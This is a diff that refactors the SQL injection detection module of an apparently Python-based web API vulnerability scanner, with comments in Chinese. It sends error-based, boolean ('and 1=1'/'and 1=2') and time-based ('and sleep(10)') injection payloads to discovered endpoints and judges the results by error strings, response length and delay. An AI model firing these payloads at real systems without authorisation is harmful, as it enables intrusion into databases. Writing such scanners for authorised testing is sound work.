@@ -1,12 +1,18 @@
 # !/usr/bin/env python3
 # -*- encoding: utf-8 -*-
 
-import os,re,sqlite3,json,requests,random
-from tqdm import tqdm
+import os,re,json,random
 from urllib.parse import quote
 from lib.common import readConfig
 from lib.Database import DatabaseType
 from lib.common.CreatLog import creatLog
+from lib.common.probeClient import ProbeClient,UserAgents
+
+
+# 普通探测请求的超时时间(秒)
+SQL_TIMEOUT = 10
+# 时间盲注的payload会让服务端休眠10秒，超时时间需要留出余量
+SQL_SLEEP_TIMEOUT = 30
 
 
 class SqlTest():
@@ -24,33 +30,17 @@ class SqlTest():
         self.options = options
         self.header = ""
         self.log = creatLog().get_logger()
-        self.proxy_data = {'http': self.options.proxy,'https': self.options.proxy}
-        self.UserAgent = ["Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0",
-                          "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; en) Opera 9.50",
-                          "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534.57.2 (KHTML, like Gecko) Version/5.1.7 Safari/534.57.2",
-                          "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/39.0.2171.71 Safari/537.36",
-                          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.11 (KHTML, like Gecko) Chrome/23.0.1271.64 Safari/537.11",
-                          "Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/534.16 (KHTML, like Gecko) Chrome/10.0.648.133 Safari/534.16",
-                          "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
-                          "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/536.11 (KHTML, like Gecko) Chrome/20.0.1132.11 TaoBrowser/2.0 Safari/536.11",
-                          "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Maxthon/4.4.3.4000 Chrome/30.0.1599.101 Safari/537.36",
-                          "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Trident/4.0; SV1; QQDownload 732; .NET4.0C; .NET4.0E; SE 2.X MetaSr 1.0)",
-                          "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; QQDownload 732; .NET4.0C; .NET4.0E; LBBROWSER)",
-                          "Mozilla/5.0 (Windows; U; Windows NT 6.1; en-us) AppleWebKit/534.50 (KHTML, like Gecko) Version/5.1 Safari/534.50",
-                          "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0",
-                          "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11",
-                          "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; TencentTraveler 4.0)"]
+        self.client = ProbeClient(self.options)
 
-    def sqlTest(self):
-        whole_list = []
-        projectDBPath = DatabaseType(self.projectTag).getPathfromDB() + self.projectTag + ".db"
-        connect = sqlite3.connect(os.sep.join(projectDBPath.split('/')))
-        cursor = connect.cursor()
-        connect.isolation_level = None
+    def endpoints(self):
+        """
+        读取需要检测的接口：参数中存在数字默认值的 get/post 接口
+
+        :return: [(参数名列表, 接口地址, 参数选项)]
+        """
+        endpoints = []
         # success=1 的情况是get的情况 success=2的情况是post的情况
-        sql = "select * from api_tree where success = 1 or success = 2"
-        cursor.execute(sql)
-        apiTreeInfo = cursor.fetchall()
+        apiTreeInfo = DatabaseType(self.projectTag).allApiFromDB()
         for apiInfo in apiTreeInfo:
             name_list=[]
             api_option = apiInfo[3]
@@ -65,25 +55,31 @@ class SqlTest():
                 if json_default.isdigit():
                     for json_str in json_strs:
                         name_list.append(json_str["name"])
-                    self.startTest(name_list,api_path,api_option)
+                    endpoints.append((name_list,api_path,api_option))
                     break
+        return endpoints
 
-    def startTest(self,name,path,option):
-        if self.options.cookie != None:
-            self.header = {
-                'User-Agent': random.choice(self.UserAgent),
-                'Content-Type': 'application/x-www-form-urlencoded',
-                'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                'Cookie': self.options.cookie,
-                self.options.head.split(':')[0]: self.options.head.split(':')[1]
-            }
-        else:
-            self.header = {
-                'User-Agent': random.choice(self.UserAgent),
-                'Content-Type': 'application/x-www-form-urlencoded',
-                'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                self.options.head.split(':')[0]: self.options.head.split(':')[1]
-            }
+    def sqlTest(self):
+        for name,path,option in self.endpoints():
+            self.startTest(name,path,option)
+
+    def schedule(self, scheduler):
+        """
+        按接口拆分为调度任务，每个接口使用独立的实例；时间盲注放入 time 通道
+
+        :param scheduler: TestScheduler
+        """
+        for name,path,option in self.endpoints():
+            test = SqlTest(self.projectTag,self.options)
+            scheduler.submit("SqlTest", test.scheduleTest, name, path, option, scheduler, url=path)
+
+    def scheduleTest(self, name, path, option, scheduler):
+        self.prepare(name,path,option)
+        if not self.contentTest():
+            scheduler.submit("SqlTest", self.timeSQLInjction, url=path, lane="time")
+
+    def prepare(self,name,path,option):
+        self.header = self.makeHeader('application/x-www-form-urlencoded')
 
         self.name = "".join(name)
         self.path = path
@@ -92,31 +88,44 @@ class SqlTest():
         # name 应该是参数的名字
         # path api接口地址
 
+    def contentTest(self):
+        # 报错注入与布尔盲注，发现注入时返回True
         self.errorSQLInjection()
         if self.error == 0:
             self.boolenSQLInjection()
-            if self.boolen == 0:
-                self.timeSQLInjction()
+        return self.error == 1 or self.boolen == 1
+
+    def startTest(self,name,path,option):
+        self.prepare(name,path,option)
+        if not self.contentTest():
+            self.timeSQLInjction()
+
+    def makeHeader(self, contenttype):
+        header = {
+            'User-Agent': random.choice(UserAgents),
+            'Content-Type': contenttype,
+            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+        }
+        if self.options.cookie != None:
+            header['Cookie'] = self.options.cookie
+        header[self.options.head.split(':')[0]] = self.options.head.split(':')[1]
+        return header
 
+    def send(self, method, url, data=None, header=None, timeout=SQL_TIMEOUT):
+        # 通过共享的请求缓存发送，同一次运行中相同的请求只发送一次；
+        # 注入载荷不重试，报错注入的5xx和时间盲注的超时正是要观察的结果
+        return self.client.fetch(method, url, data, header or self.header, timeout, retries=0)
 
     def getIDFromDB(self):
-        projectDBPath = DatabaseType(self.projectTag).getPathfromDB() + self.projectTag + ".db"
-        connect = sqlite3.connect(os.sep.join(projectDBPath.split('/')))
-        cursor = connect.cursor()
-        connect.isolation_level = None
-        sql = "select id,from_js from api_tree where path=\"" + self.path + "\""
-        cursor.execute(sql)
-        apiTreeInfo = cursor.fetchall()
-        if len(apiTreeInfo) != 0:
-            try:
-                self.api_id = int(apiTreeInfo[0][0])   # 对应路径的api_id
-                self.from_js = int(apiTreeInfo[0][1])  # 对应路径的from_js
-            except Exception as e:
-                self.log.error("[Err] %s" % e)
+        try:
+            apiInfo = DatabaseType(self.projectTag).apiIdFromDB(self.path)
+            if apiInfo:
+                self.api_id, self.from_js = apiInfo  # 对应路径的api_id和from_js
+        except Exception as e:
+            self.log.error("[Err] %s" % e)
 
     # 报错注入检测模块
     def errorSQLInjection(self):
-        sslFlag = int(self.options.ssl_flag)
         # 有待改进
         errors = ["You have an error in your SQL syntax","Oracle Text error","Microsoft SQL Server"]
         datas = json.loads(self.option)
@@ -137,18 +146,10 @@ class SqlTest():
                 get_datas.append(get_name + "=" + get_default)
             # url中加入单引号 导致报错
             url = self.path + "?" + "&".join(get_datas)
-            # print(url)
             try:
-                if sslFlag == 1:
-                    get_resp = requests.get(url,headers=self.header,proxies=self.proxy_data,timeout=10,verify=False)
-                else:
-                    get_resp = requests.get(url,headers=self.header,proxies=self.proxy_data,timeout=10)
-                get_resp_text = get_resp.text
-
-            # 对错误进行一个遍历
+                get_resp_text = self.send("GET", url).text
+                # 对错误进行一个遍历
                 for error in errors:
-                    errors.set_description("Processing %s" % error)
-
                     if error in get_resp_text:
                         #print("目标疑似存在SQL报错注入")
                         self.error = 1
@@ -173,40 +174,17 @@ class SqlTest():
                 post_datas.append(post_name + "=" +post_default)
                 post_json[post_name] = post_default  # json 类型的数据
             post_data = "&".join(post_datas)
-            # print(post_json)
-            # print(post_data)
             try:
-                if sslFlag == 1:
-                    post_resp = requests.post(self.path,headers=self.header,data=post_data,proxies=self.proxy_data,timeout=10,verify=False)
-                else:
-                    post_resp = requests.post(self.path,headers=self.header,data=post_data,proxies=self.proxy_data,timeout=10)
+                post_resp = self.send("POST", self.path, post_data)
                 post_text = post_resp.text
                 post_code = post_resp.status_code
                 # json类型
-                if post_code == '415':
-                    if self.options.cookie != None:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            'Cookie': self.options.cookie,
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
-                    else:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
+                if post_code == 415:
                     try:
-                        if sslFlag == 1:
-                            post_json_resp = requests.post(self.path, data=post_json, headers=header,proxies=self.proxy_data,timeout=10,verify=False)
-                        else:
-                            post_json_resp = requests.post(self.path, data=post_json, headers=header,proxies=self.proxy_data,timeout=10)
+                        post_json_resp = self.send("POST", self.path, json.dumps(post_json), self.makeHeader('application/json'))
                         post_json_text = post_json_resp.text
                         post_json_code = post_json_resp.status_code
-                        if post_json_code == '415':  # 如果状态码还是 415 就不管了 只负责json和普通的data
+                        if post_json_code == 415:  # 如果状态码还是 415 就不管了 只负责json和普通的data
                             pass
                         else:
                             for error in errors:
@@ -233,69 +211,37 @@ class SqlTest():
                 self.log.error("[Err] %s" % e)
 
     def boolenSQLInjection(self):
-        sslFlag = int(self.options.ssl_flag)
         datas = json.loads(self.option)
         method = datas['type']
         # get的请求
         if method == "get":
-            gets = tqdm(datas["get"])
+            gets = datas["get"]
             get_datas = []
             get_datas1 = []
             get_datas2 = []
             # 对options中的参数进行遍历，然后再进行一个组合
             for get in gets:
-                # or 1=1 的 payload
                 get_name = get["name"]
                 # 如果参数是传入的参数 对default 进行处理
                 if get_name == self.name:
-                    # 加入两个引号促使报错
                     # 后续可以改成用户自定义
-                    get_default = get['default'] + " and 1=1"
-                else:
-                    get_default = get["default"]
-                get_datas.append(get_name + "=" + get_default)
-
-                # or 1=2 的 payload
-                get_name1 = get["name"]
-                # 如果参数是传入的参数 对default 进行处理
-                if get_name1 == self.name:
-                    # 加入两个引号促使报错
-                    get_default1 = get['default'] + " and 1=2"
+                    get_datas.append(get_name + "=" + get['default'] + " and 1=1")   # and 1=1 的 payload
+                    get_datas1.append(get_name + "=" + get['default'] + " and 1=2")  # and 1=2 的 payload
                 else:
-                    get_default1 = get["default"]
-                get_datas1.append(get_name1 + "=" + get_default1)
+                    get_datas.append(get_name + "=" + get["default"])
+                    get_datas1.append(get_name + "=" + get["default"])
+                get_datas2.append(get_name + "=" + get["default"])  # 默认 的 payload
 
-                # 默认 的 payload
-                get_name2 = get["name"]
-                # 如果参数是传入的参数 对default 进行处理
-                if get_name2 ==self.name:
-                    # 加入两个引号促使报错
-                    get_default2 = get['default']
-                else:
-                    get_default2 = get["default"]
-                get_datas2.append(get_name2 + "=" + get_default2)
-
-            # url中加入单引号 导致报错
             url1 = self.path + "?" + "&".join(get_datas)
             url2 = self.path + "?" + "&".join(get_datas1)
             url_default = self.path + "?" + "&".join(get_datas2)
-            # print(url1)  # or 1=1
-            # print(url2)  # or 1=2
-            # print(url_default)  # default
 
-            # 发送三个get 请求
+            # 发送三个get 请求，默认请求对同一接口只会发送一次
             try:
-                if sslFlag == 1:
-                    get_resp1 = requests.get(url1,headers=self.header,proxies=self.proxy_data,timeout=10,verify=False)
-                    get_resp2 = requests.get(url2,headers=self.header,proxies=self.proxy_data,timeout=10,verify=False)
-                    get_resp_default = requests.get(url_default,headers=self.header,proxies=self.proxy_data,timeout=10,verify=False)
-                else:
-                    get_resp1 = requests.get(url1,headers=self.header,proxies=self.proxy_data,timeout=10)
-                    get_resp2 = requests.get(url2,headers=self.header,proxies=self.proxy_data,timeout=10)
-                    get_resp_default = requests.get(url_default,headers=self.header,proxies=self.proxy_data,timeout=10)
+                get_resp1 = self.send("GET", url1)
                 get_resp1_len = len(get_resp1.text)
-                get_resp2_len = len(get_resp2.text)
-                get_resp_default = len(get_resp_default.text)
+                get_resp2_len = len(self.send("GET", url2).text)
+                get_resp_default = len(self.send("GET", url_default).text)
 
                 # 首先做一个判断 判断这两者长度是否相投 正常的 和 1=1的
                 if (get_resp1_len == get_resp_default) and (get_resp2_len != get_resp_default):
@@ -316,99 +262,46 @@ class SqlTest():
             post_datas_default = []
 
             for post in posts:
-                # or 1=1
-                post_name1 = post["name"]
-                if post_name1 ==self.name:
-                    post_default = post['default'] + " and 1=1"
-                else:
-                    post_default = post['default']
-                post_datas1.append(post_name1 + "=" + post_default)
-                post_json1[post_name1] = post_default  # json 类型的数据
-
-                # or 1=2
-                post_name2 = post["name"]
-                if post_name2 == self.name:
-                    post_default = post['default'] + " and 1=2"
-                else:
-                    post_default = post['default']
-                post_datas2.append(post_name1 + "=" + post_default)
-                post_json2[post_name2] = post_default  # json 类型的数据
-
-                # default
-                post_name_default = post["name"]
-                if post_name_default == self.name:
-                    post_default = post['default']
+                post_name = post["name"]
+                if post_name == self.name:
+                    post_default1 = post['default'] + " and 1=1"
+                    post_default2 = post['default'] + " and 1=2"
                 else:
-                    post_default = post['default']
-                post_datas_default.append(post_name1 + "=" + post_default)
-                post_json_default[post_name_default] = post_default  # json 类型的数据
+                    post_default1 = post_default2 = post['default']
+                post_datas1.append(post_name + "=" + post_default1)
+                post_json1[post_name] = post_default1  # json 类型的数据
+                post_datas2.append(post_name + "=" + post_default2)
+                post_json2[post_name] = post_default2
+                post_datas_default.append(post_name + "=" + post['default'])
+                post_json_default[post_name] = post['default']
 
             post_data1 = "&".join(post_datas1)
-            # print(post_data1)
-            # print(post_json1) # json数据
-
             post_data2 = "&".join(post_datas2)
-            # print(post_data2)
-            # print(post_json2) # json数据
-
             post_data_default = "&".join(post_datas_default)
-            # print(post_data_default)
-            # print(post_json_default) # json数据
             try:
-                if sslFlag == 1:
-                    post_resp = requests.post(self.path,header=self.header,proxies=self.proxy_data,data=post_data1,verify=False)
-                else:
-                    post_resp = requests.post(self.path,header=self.header,proxies=self.proxy_data,data=post_data1)
+                post_resp = self.send("POST", self.path, post_data1)
                 post_code = post_resp.status_code
-                # 如果状态吗是 414
-                if post_code == '415':
-
-                    if self.options.cookie != None:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            'Cookie': self.options.cookie,
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
-                    else:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
-                    if sslFlag == 1:
-                        post_json_len1 = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1,verify=False).text)
-                        post_json_len2 = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json2,verify=False).text)
-                        post_json_defaule_len = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json_default,verify=False).text)
-                        post_resp_code = requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1,verify=False).status_code
-                        post_resp_text = requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1,verify=False).text
-                    else:
-                        post_json_len1 = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1).text)
-                        post_json_len2 = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json2).text)
-                        post_json_defaule_len = len(requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json_default).text)
-                        post_resp_code = requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1).status_code
-                        post_resp_text = requests.post(self.path,headers=header,proxies=self.proxy_data,data=post_json1).text
-                    if post_resp_code == '415':
+                # 如果状态码是 415 改用json格式
+                if post_code == 415:
+                    header = self.makeHeader('application/json')
+                    post_json_resp1 = self.send("POST", self.path, json.dumps(post_json1), header)
+                    post_json_len1 = len(post_json_resp1.text)
+                    post_json_len2 = len(self.send("POST", self.path, json.dumps(post_json2), header).text)
+                    post_json_defaule_len = len(self.send("POST", self.path, json.dumps(post_json_default), header).text)
+                    if post_json_resp1.status_code == 415:
                         pass
                     else:
                         if (post_json_len1 == post_json_defaule_len) and (post_json_len2 != post_json_defaule_len):
                             #print("疑似存在布尔盲注")
                             self.boolen = 1
                             try:
-                                DatabaseType(self.projectTag).insertSQLInfoIntoDB(self.api_id, self.from_js, post_json_default,post_resp_text)
+                                DatabaseType(self.projectTag).insertSQLInfoIntoDB(self.api_id, self.from_js, post_json_default,post_json_resp1.text)
                             except Exception as e:
                                 self.log.error("[Err] %s" % e)
                 else:
-                    if sslFlag == 1:
-                        post_len1 = len(requests.post(self.path,headers=self.header,data=post_data1,proxies=self.proxy_data,verify=False).text)
-                        post_len2 = len(requests.post(self.path,headers=self.header,data=post_data2,proxies=self.proxy_data,verify=False).text)
-                        post_len_default = len(requests.post(self.path,headers=self.header,data=post_data_default,proxies=self.proxy_data,verify=False).text)
-                    else:
-                        post_len1 = len(requests.post(self.path,headers=self.header,data=post_data1,proxies=self.proxy_data).text)
-                        post_len2 = len(requests.post(self.path,headers=self.header,data=post_data2,proxies=self.proxy_data).text)
-                        post_len_default = len(requests.post(self.path,headers=self.header,data=post_data_default,proxies=self.proxy_data).text)
+                    post_len1 = len(post_resp.text)
+                    post_len2 = len(self.send("POST", self.path, post_data2).text)
+                    post_len_default = len(self.send("POST", self.path, post_data_default).text)
                     if (post_len1 == post_len_default) and (post_len2 != post_len_default):
                         #print("疑似存在布尔盲注")
                         self.boolen = 1
@@ -421,39 +314,35 @@ class SqlTest():
                 self.log.error("[Err] %s" % e)
 
     def timeSQLInjction(self):
-        sslFlag = int(self.options.ssl_flag)
         datas = json.loads(self.option)
         method = datas['type']
-        if sslFlag == 1:
-            default_time = requests.get(self.path, headers=self.header, proxies=self.proxy_data,verify=False).elapsed.seconds
-        else:
-            default_time = requests.get(self.path, headers=self.header, proxies=self.proxy_data).elapsed.seconds
+        # 接口的基准响应时间，同一接口只请求一次
+        try:
+            default_time = self.send("GET", self.path).elapsed.seconds
+        except Exception as e:
+            self.log.error("[Err] %s" % e)
+            return
         # get的请求
         if method == "get":
             gets = datas["get"]
             get_datas = []
             # 对options中的参数进行遍历，然后再进行一个组合
-            #print(gets)
             for get in gets:
                 get_name = get["name"]
-                #print(get_name)
                 # 如果参数是传入的参数 对default 进行处理
                 if get_name == self.name:
-                    # 加入两个引号促使报错
                     get_default = get['default'] + " and sleep(10)"
                 else:
                     get_default = get["default"]
                 get_datas.append(get_name + "=" + get_default)
             url = self.path + "?" + "&".join(get_datas)  # url
-            #print(url)
-            # start_time = time.time()
-            if sslFlag == 1:
-                get_resp = requests.get(url,headers=self.header,proxies=self.proxy_data,verify=False)
-            else:
-                get_resp = requests.get(url,headers=self.header,proxies=self.proxy_data)
+            try:
+                get_resp = self.send("GET", url, timeout=SQL_SLEEP_TIMEOUT)
+            except Exception as e:
+                self.log.error("[Err] %s" % e)
+                return
             # 获取响应时间
             sec = get_resp.elapsed.seconds
-            #print(sec)
             if (default_time<2) and (sec>=9):
                 #print("检测到sql时间盲注")
                 self.time =1
@@ -472,39 +361,17 @@ class SqlTest():
                 post_datas.append(post_name + "=" + post_default)
                 post_json[post_name] = post_default  # json 类型的数据
             post_data = "&".join(post_datas)
-            #print(post_json)
-            #print(post_data)
             try:
-                if sslFlag == 1:
-                    post_resp = requests.post(self.path,data=post_data,proxies=self.proxy_data,verify=False)
-                else:
-                    post_resp = requests.post(self.path,data=post_data,proxies=self.proxy_data)
+                post_resp = self.send("POST", self.path, post_data, timeout=SQL_SLEEP_TIMEOUT)
                 code = post_resp.status_code
                 sec = post_resp.elapsed.seconds
 
-                if code == '415':
-                    if self.options.cookie != None:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            'Cookie': self.options.cookie,
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
-                    else:
-                        header = {
-                            'User-Agent': random.choice(self.UserAgent),
-                            'Content-Type': 'application/json',
-                            'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
-                            self.options.head.split(':')[0]: self.options.head.split(':')[1]
-                        }
-                    if sslFlag == 1:
-                        post_json_resp = requests.post(self.path, headers=header, data=post_json, proxies=self.proxy_data, verify=False)
-                    else:
-                        post_json_resp = requests.post(self.path, headers=header, data=post_json, proxies=self.proxy_data)
+                if code == 415:
+                    post_json_resp = self.send("POST", self.path, json.dumps(post_json), self.makeHeader('application/json'),
+                                               timeout=SQL_SLEEP_TIMEOUT)
                     json_code = post_json_resp.status_code
                     json_sec = post_json_resp.elapsed.seconds
-                    if json_code == '415':
+                    if json_code == 415:
                         pass
                     elif default_time<2 and json_sec>9:
                         #print("疑似存在 sql时间盲注")